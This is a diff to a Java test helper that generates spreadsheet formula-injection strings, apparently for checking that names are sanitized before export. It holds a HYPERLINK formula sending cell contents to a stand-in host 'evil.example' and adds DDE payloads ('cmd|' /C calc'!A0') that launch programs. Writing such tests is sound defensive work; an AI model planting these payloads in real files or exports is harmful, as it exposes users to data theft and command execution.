@@ -16,6 +16,10 @@ final class Sharp {
                     "", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff",
                     "\u3000", "'", "\"", "''");
 
+    /// What may end a cell on some computer, inside a name.
+    private static final List<String> ENDS =
+            List.of("x;", "x,", "x\t", "x\n", "x\r\n", "x; ", "x;\"", "x\t\u00a0", "x;'", ";;");
+
     private static final List<String> WHOLE =
             List.of(
                     "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
@@ -61,12 +65,17 @@ final class Sharp {
 
     private Sharp() {}
 
-    /// At least 150 of them, each once.
+    /// At least 250 of them, each once.
     static Stream<String> names() {
         List<String> names = new ArrayList<>(WHOLE);
         for (String disguise : DISGUISES) {
             for (String beginning : BEGINNINGS) {
                 names.add(disguise + beginning + "1+1");
+            }
+        }
+        for (String end : ENDS) {
+            for (String beginning : BEGINNINGS) {
+                names.add(end + beginning + "cmd|' /C calc'!A0;");
             }
         }
         return names.stream().distinct();
